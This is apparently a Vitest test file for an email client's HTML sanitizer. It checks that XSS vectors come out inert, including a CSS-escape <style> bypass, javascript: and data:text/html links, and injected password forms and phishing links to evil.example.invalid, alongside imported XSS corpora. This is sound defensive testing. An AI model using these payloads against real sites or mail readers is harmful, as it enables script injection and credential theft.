// @vitest-environment jsdom
/**
 * The sanitizer in a DOM (jsdom): the `<style>` re-serialisation bypass and its relatives, link
 * rules, the behaviour the reader relies on (cid: images, remote blocking and proxying, the CSP),
 * and every vector of the vendored XSS corpora (DOMPurify's fixtures, H5SC), each checked by
 * parsing the output again as a document.
 *
 * jsdom's CSSOM keeps CSS escapes as written, where Chromium's decodes them (`\3C ` serialises as
 * `<`), which is what made the bypass. The "CSSOM that decodes escapes" cases make jsdom behave
 * like Chromium there by decoding hex escapes before the sheet is parsed; the same vectors run
 * through the real reader in Chromium in e2e/reader/xss-corpus.spec.ts.
 */
import { afterEach, beforeEach, describe, expect, it, vi } from "vitest";
import { dompurifyVectors, h5scVectors } from "../../packages/mail-server/src/xss-corpus";
import { type SanitizeOptions, sanitizeEmailHtml } from "./sanitize";
import { linkHref } from "./sanitize-urls";

const ORIGIN = "https://mail.example.test";

function options(allowRemote = false): SanitizeOptions {
  return {
    cid: (id) => (id === "logo@x" ? "/api/parts?mailbox=INBOX&uid=1&part=2" : null),
    allowRemote,
    origin: ORIGIN,
  };
}

function parse(html: string): Document {
  return new DOMParser().parseFromString(html, "text/html");
}

const FORBIDDEN = [
  "script",
  "iframe",
  "frame",
  "frameset",
  "object",
  "embed",
  "applet",
  "base",
  "form",
  "input",
  "button",
  "select",
  "textarea",
  "link",
  "svg",
  "math",
  "noscript",
  "template",
  "portal",
  "audio",
  "video",
];
const URL_ATTRS = new Set([
  "href",
  "xlink:href",
  "src",
  "background",
  "action",
  "formaction",
  "data",
  "poster",
  "srcset",
  "cite",
  "longdesc",
  "usemap",
  "dynsrc",
  "lowsrc",
]);
const LOADING_ATTRS = new Set([
  "src",
  "background",
  "data",
  "poster",
  "srcset",
  "dynsrc",
  "lowsrc",
]);

/** Whether a URL that loads something is one the frame may load. */
function loadable(url: string, allowRemote: boolean): boolean {
  return (
    url.startsWith("/api/parts?") ||
    url.toLowerCase().startsWith("data:image/") ||
    (allowRemote && url.startsWith("/api/proxy?"))
  );
}

/** Every `url(...)` target in a piece of CSS (quotes and spaces stripped). */
function cssUrls(css: string): string[] {
  return [...css.matchAll(/url\(\s*(["']?)([^"')]*)/gi)].map((m) => m[2] ?? "");
}

/** What is wrong with a sanitized document, as readable lines (empty when it is safe). */
function audit(html: string, allowRemote: boolean): string[] {
  const doc = parse(html);
  const problems: string[] = [];
  for (const tag of FORBIDDEN) {
    if (doc.getElementsByTagName(tag).length > 0) problems.push(`<${tag}> element`);
  }
  const metas = [...doc.getElementsByTagName("meta")];
  const ours = metas.filter(
    (m) =>
      m.parentElement === doc.head &&
      (m.getAttribute("charset") === "utf-8" ||
        (m.getAttribute("name") === "referrer" && m.getAttribute("content") === "no-referrer") ||
        m.getAttribute("http-equiv") === "Content-Security-Policy"),
  );
  if (metas.length !== 3 || ours.length !== 3) {
    problems.push(`meta elements: ${metas.map((m) => m.outerHTML).join(" ")}`);
  }
  for (const el of doc.querySelectorAll("*")) {
    const tag = el.nodeName.toLowerCase();
    for (const { name, value } of [...el.attributes]) {
      // What a browser ignores in a URL: whitespace and control characters.
      const compact = [...value]
        .filter((c) => c.charCodeAt(0) > 0x20)
        .join("")
        .toLowerCase();
      if (name.startsWith("on")) problems.push(`<${tag} ${name}>`);
      if (URL_ATTRS.has(name) && /javascript:|vbscript:|data:text/.test(compact)) {
        problems.push(`<${tag} ${name}="${value}">`);
      }
      if (LOADING_ATTRS.has(name) && !loadable(value, allowRemote)) {
        problems.push(`<${tag} ${name}="${value}"> loads`);
      }
      if ((name === "href" || name === "xlink:href") && tag !== "a" && tag !== "area") {
        problems.push(`<${tag} ${name}>`);
      }
      if (name === "style") {
        for (const url of cssUrls(value)) {
          if (!loadable(url, allowRemote)) problems.push(`<${tag} style> url(${url})`);
        }
      }
    }
    if (tag === "a" || tag === "area") {
      const href = el.getAttribute("href");
      if (href === null) continue;
      if (href.startsWith("#")) {
        if (el.hasAttribute("target"))
          problems.push(`in-page <${tag} href="${href}"> has a target`);
      } else if (!/^(https?:\/\/|mailto:)/i.test(href)) {
        problems.push(`<${tag} href="${href}"> is not absolute`);
      } else if (
        el.getAttribute("target") !== "_blank" ||
        !(el.getAttribute("rel") ?? "").includes("noopener")
      ) {
        problems.push(`<${tag} href="${href}"> would navigate the frame`);
      }
    }
  }
  const sheets = [...doc.getElementsByTagName("style")];
  for (const style of sheets) {
    const css = style.textContent ?? "";
    if (css.includes("<")) problems.push(`<style> holds "<"`);
    if (/@import/i.test(css)) problems.push("@import");
    for (const url of cssUrls(css)) {
      if (!loadable(url, allowRemote)) problems.push(`<style> url(${url})`);
    }
  }
  return problems;
}

/**
 * Decode CSS hex escapes before a sheet is parsed, so jsdom's CSSOM serialises `\3C ` as `<`
 * as Chromium's does (jsdom keeps escapes as written).
 */
function decodeCssEscapesInSheets(): void {
  const replaceSync = CSSStyleSheet.prototype.replaceSync;
  vi.spyOn(CSSStyleSheet.prototype, "replaceSync").mockImplementation(function (
    this: CSSStyleSheet,
    text: string,
  ) {
    const decoded = text.replace(/\\([0-9a-fA-F]{1,6})[ \t\n]?/g, (_, hex: string) =>
      String.fromCodePoint(Number.parseInt(hex, 16)),
    );
    replaceSync.call(this, decoded);
  });
}

/**
 * HTML inside a double-quoted CSS string, written so that only a CSS escape decoder turns it into
 * markup (its own attributes use single quotes, which a CSSOM does not escape in strings).
 */
const escaped = (html: string) =>
  html.replaceAll("<", "\\3C ").replaceAll(">", "\\3E ").replaceAll("'", "\\27 ");

/** The `<style>` bypass and its relatives: CSS whose re-serialisation would be live markup. */
const STYLE_BYPASSES: [string, string][] = [
  [
    "a content string (the reported input)",
    `<style>p::after{content:"\\3C /style\\3E \\3C img src=x onerror=alert(1)\\3E "}</style><p>x</p>`,
  ],
  [
    "lower-case and zero-padded escapes",
    `<style>p::after{content:"\\00003c/style\\3e\\3c img src=x onerror=alert(1)\\3e"}</style><p>x</p>`,
  ],
  [
    "a data: URL that is kept",
    `<style>p{background:url("data:image/png,${escaped("</style><img src=x onerror=alert(1)>")}")}</style><p>x</p>`,
  ],
  [
    "an attribute selector",
    `<style>a[title="${escaped("</style><img src=x onerror=alert(1)>")}"]{color:red}</style><a>x</a>`,
  ],
  [
    "a rule inside @media",
    `<style>@media screen{p::before{content:"${escaped("</style><img src=x onerror=alert(1)>")}"}}</style><p>x</p>`,
  ],
  [
    "a rule inside @supports",
    `<style>@supports (display:grid){p::before{content:"${escaped("</style><svg onload=alert(1)>")}"}}</style><p>x</p>`,
  ],
  [
    "a <meta refresh>",
    `<style>p::after{content:"${escaped("</style><meta http-equiv='refresh' content='0;url=https://evil.example.invalid/'>")}"}</style><p>x</p>`,
  ],
  [
    "an <input type=password>",
    `<style>p::after{content:"${escaped("</style><form action='https://evil.example.invalid/'><input type='password' name='p'>")}"}</style><p>x</p>`,
  ],
  [
    "a plain link that would navigate the frame",
    `<style>p::after{content:"${escaped("</style><a href='https://evil.example.invalid/login'>Sign in again</a>")}"}</style><p>x</p>`,
  ],
  [
    "a relative link and a remote image",
    `<style>p::after{content:"${escaped("</style><a href='/api/session'>x</a><img src='https://evil.example.invalid/px.png'>")}"}</style><p>x</p>`,
  ],
  [
    "a style attribute",
    `<p style="--x:'${escaped("</p><img src=x onerror=alert(1)>")}';background:url('data:image/png,${escaped("'><img src=x onerror=alert(1)>")}')">x</p>`,
  ],
];

describe("the <style> bypass class", () => {
  describe("with jsdom's CSSOM", () => {
    it.each(STYLE_BYPASSES)("%s: nothing live comes out", (_, html) => {
      for (const allowRemote of [false, true]) {
        expect(audit(sanitizeEmailHtml(html, options(allowRemote)).html, allowRemote)).toEqual([]);
      }
    });
  });

  describe("with a CSSOM that decodes escapes, as Chromium's does", () => {
    beforeEach(decodeCssEscapesInSheets);
    afterEach(() => vi.restoreAllMocks());

    it.each(STYLE_BYPASSES)("%s: nothing live comes out", (_, html) => {
      for (const allowRemote of [false, true]) {
        expect(audit(sanitizeEmailHtml(html, options(allowRemote)).html, allowRemote)).toEqual([]);
      }
    });

    it("keeps the reported sheet as a style, with its text as CSS and not as markup", () => {
      const out = parse(
        sanitizeEmailHtml(
          `<style>p::after{content:"\\3C /style\\3E \\3C img src=x onerror=alert(1)\\3E "}</style><p>x</p>`,
          options(),
        ).html,
      );
      expect(out.getElementsByTagName("img")).toHaveLength(0);
      const sheet = [...out.getElementsByTagName("style")].map((s) => s.textContent).join("");
      expect(sheet).toContain("\\3C img src=x onerror=alert(1)");
    });
  });
});

describe("links", () => {
  const DROPPED = [
    "/api/session",
    "api/parts?uid=1",
    "./x",
    "../x",
    "?q=1",
    "//evil.example.invalid/x",
    "",
    "javascript:alert(1)",
    " JaVaScRiPt:alert(1)",
    "java&#x09;script:alert(1)",
    "&#106;avascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "vbscript:msgbox(1)",
    "file:///etc/passwd",
    "ftp://example.com/x",
    "tel:+123",
  ];

  it.each(DROPPED)("drops href=%j on a and area", (href) => {
    const html = `<a href="${href}">link</a><map name="m"><area href="${href}" alt="area"></map>`;
    const out = parse(sanitizeEmailHtml(html, options()).html);
    const a = out.querySelector("a");
    const area = out.querySelector("area");
    expect(a?.textContent).toBe("link");
    expect(a?.hasAttribute("href")).toBe(false);
    expect(a?.hasAttribute("target")).toBe(false);
    expect(area?.hasAttribute("href")).toBe(false);
  });

  it("keeps absolute http(s) and mailto links, opening in a new tab with noopener", () => {
    const html = [
      `<a href="https://example.com/a?b=1#c">1</a>`,
      `<a href="HTTP://Example.COM/x">2</a>`,
      `<a href="mailto:bob@example.com?subject=hi">3</a>`,
      `<a href="https://example.com/x" target="_self">4</a>`,
    ].join("");
    const links = [...parse(sanitizeEmailHtml(html, options()).html).querySelectorAll("a")];
    expect(links.map((a) => a.getAttribute("href"))).toEqual([
      "https://example.com/a?b=1#c",
      "http://example.com/x",
      "mailto:bob@example.com?subject=hi",
      "https://example.com/x",
    ]);
    for (const a of links) {
      expect(a.getAttribute("target")).toBe("_blank");
      expect(a.getAttribute("rel")).toContain("noopener");
    }
  });

  it("keeps in-page anchors as they are, without a target", () => {
    const html = `<a href="#sec2" target="_blank">Section 2</a><h2 id="sec2">Two</h2>`;
    const a = parse(sanitizeEmailHtml(html, options()).html).querySelector("a");
    expect(a?.getAttribute("href")).toBe("#sec2");
    expect(a?.hasAttribute("target")).toBe(false);
  });

  it("linkHref agrees: only absolute http(s), mailto and #anchors", () => {
    expect(linkHref("#top")).toBe("#top");
    expect(linkHref("https://a.example/")).toBe("https://a.example/");
    expect(linkHref("/api/x")).toBeNull();
    expect(linkHref("javascript:alert(1)")).toBeNull();
  });
});

describe("what the reader relies on", () => {
  it("resolves cid: images, blocks and counts remote ones, and adds the CSP", () => {
    const html = `<img alt="logo" src="cid:logo@x"><img alt="px" src="https://t.example/px.png">
      <div style="background-image:url(https://t.example/bg.png)">a</div>
      <style>.h{background-image:url("https://t.example/h.png")}</style>`;
    const result = sanitizeEmailHtml(html, options());
    const out = parse(result.html);
    expect(out.querySelector('img[alt="logo"]')?.getAttribute("src")).toBe(
      "/api/parts?mailbox=INBOX&uid=1&part=2",
    );
    const px = out.querySelector('img[alt="px"]');
    expect(px?.hasAttribute("src")).toBe(false);
    expect(px?.getAttribute("data-ferry-blocked")).toBe("src");
    expect(result.blocked).toBe(3);
    expect(result.html).not.toContain("t.example");
    const csp = out.querySelector('meta[http-equiv="Content-Security-Policy"]');
    expect(csp?.getAttribute("content")).toContain("default-src 'none'");
    expect(csp?.getAttribute("content")).toContain(`img-src ${ORIGIN}/api/parts data:`);
    expect(audit(result.html, false)).toEqual([]);
  });

  it("sends remote content through the proxy once allowed", () => {
    const html = `<img alt="px" src="https://t.example/px.png">
      <table background="https://t.example/t.png"><tr><td>a</td></tr></table>
      <style>.h{background-image:url("https://t.example/h.png")}</style>`;
    const result = sanitizeEmailHtml(html, options(true));
    const out = parse(result.html);
    expect(result.blocked).toBe(0);
    expect(out.querySelector("img")?.getAttribute("src")).toBe(
      `/api/proxy?url=${encodeURIComponent("https://t.example/px.png")}`,
    );
    expect(out.querySelector("table")?.getAttribute("background")).toMatch(/^\/api\/proxy\?url=/);
    const css = [...out.getElementsByTagName("style")].map((s) => s.textContent).join("");
    expect(css).toContain(`/api/proxy?url=${encodeURIComponent("https://t.example/h.png")}`);
    expect(
      out.querySelector('meta[http-equiv="Content-Security-Policy"]')?.getAttribute("content"),
    ).toContain(`${ORIGIN}/api/proxy`);
    expect(audit(result.html, true)).toEqual([]);
  });

  it("keeps ordinary message styles and text", () => {
    const html = `<style>p.note{color:#c00;font-weight:bold}</style><p class="note" style="margin:4px">Hello &lt;b&gt;</p>`;
    const out = parse(sanitizeEmailHtml(html, options()).html);
    expect(out.querySelector("p.note")?.textContent).toBe("Hello <b>");
    expect(out.querySelector("p.note")?.getAttribute("style")).toContain("margin");
    const css = [...out.getElementsByTagName("style")].map((s) => s.textContent).join("");
    expect(css).toContain("p.note");
  });
});

const VECTORS = [...dompurifyVectors(), ...h5scVectors()];

describe("the XSS corpora", () => {
  it("has every vector of both corpora", () => {
    expect(VECTORS.filter((v) => v.id.startsWith("dompurify/")).length).toBeGreaterThan(200);
    expect(VECTORS.filter((v) => v.id.startsWith("h5sc/")).length).toBeGreaterThan(140);
  });

  it.each(VECTORS.map((v) => [v.id, v.title, v.html] as const))(
    "%s (%s): nothing runs, loads or navigates",
    (_, __, html) => {
      expect(audit(sanitizeEmailHtml(html, options(false)).html, false)).toEqual([]);
      expect(audit(sanitizeEmailHtml(html, options(true)).html, true)).toEqual([]);
    },
  );

  describe("with a CSSOM that decodes escapes, as Chromium's does", () => {
    beforeEach(decodeCssEscapesInSheets);
    afterEach(() => vi.restoreAllMocks());

    it.each(VECTORS.map((v) => [v.id, v.title, v.html] as const))(
      "%s (%s): nothing runs, loads or navigates",
      (_, __, html) => {
        expect(audit(sanitizeEmailHtml(html, options(false)).html, false)).toEqual([]);
      },
    );
  });

  describe("with the quote fold (lib/quote-fold) moving the vector into the fold and out of it", {
    timeout: 30_000,
  }, () => {
    const fold = (allowRemote: boolean) => ({ ...options(allowRemote), foldLabel: "Show quoted" });
    const quoted = (html: string) =>
      `<p>Reply</p><div>On Mon, 2 Jun 2025, Alice &lt;a@x.test&gt; wrote:</div><blockquote type="cite">${html}</blockquote>`;
    const above = (html: string) =>
      `<div>${html}</div><div class="gmail_quote">On 2 Jun 2025 Alice wrote:<blockquote>quoted</blockquote></div>`;

    it.each(VECTORS.map((v) => [v.id, v.title, v.html] as const))(
      "%s (%s): nothing runs, loads or navigates",
      (_, __, html) => {
        expect(audit(sanitizeEmailHtml(quoted(html), fold(false)).html, false)).toEqual([]);
        expect(audit(sanitizeEmailHtml(above(html), fold(true)).html, true)).toEqual([]);
      },
    );
  });
});
